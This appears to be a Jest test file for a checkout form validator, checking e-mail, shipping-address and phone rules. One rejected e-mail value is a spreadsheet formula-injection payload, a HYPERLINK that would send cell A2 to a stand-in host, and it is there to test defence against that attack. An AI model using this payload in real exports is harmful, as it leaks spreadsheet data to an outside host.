import { EMPTY_CHECKOUT, SHORT_ADDRESS, validateCheckout } from './checkout-rules';

const filled = { ...EMPTY_CHECKOUT, name: 'Amani Keza', phone: '+250 788 555 000', country: 'Rwanda', shippingAddress: 'KN 5 Rd, Kigali' };

describe('the checkout form applies the one e-mail rule', () => {
  it.each(['=HYPERLINK("https://x/?"&A2,"y")&"@a.b"', 'a@b.c', 'amani@example', 'amani example@org.rw'])('refuses %s before sending', (email) => {
    expect(validateCheckout({ ...filled, email }).email).toBe('Enter a valid e-mail address.');
  });

  it('accepts an ordinary address, spaces around it ignored', () => {
    expect(validateCheckout({ ...filled, email: ' amani@example.org ' })).toEqual({});
  });
});

describe('the shipping address', () => {
  const ok = { ...filled, email: 'amani@example.org' };
  it('empty is required; filled but short says the real rule, not "required"', () => {
    expect(validateCheckout({ ...ok, shippingAddress: '  ' }).shippingAddress).toBe('Shipping address is required.');
    expect(validateCheckout({ ...ok, shippingAddress: 'KN 5' }).shippingAddress).toBe(SHORT_ADDRESS);
    expect(SHORT_ADDRESS).toMatch(/^Enter the full shipping address \(at least 5 characters\)/);
    expect(validateCheckout({ ...ok, shippingAddress: 'KN 5 Rd' })).toEqual({});
  });

  it('a phone with no digits or too many digits is refused before sending', () => {
    expect(validateCheckout({ ...ok, phone: '------' }).phone).toBe('Enter a valid phone number.');
    expect(validateCheckout({ ...ok, phone: '123456789012345678' }).phone).toBe('Enter a valid phone number.');
  });
});
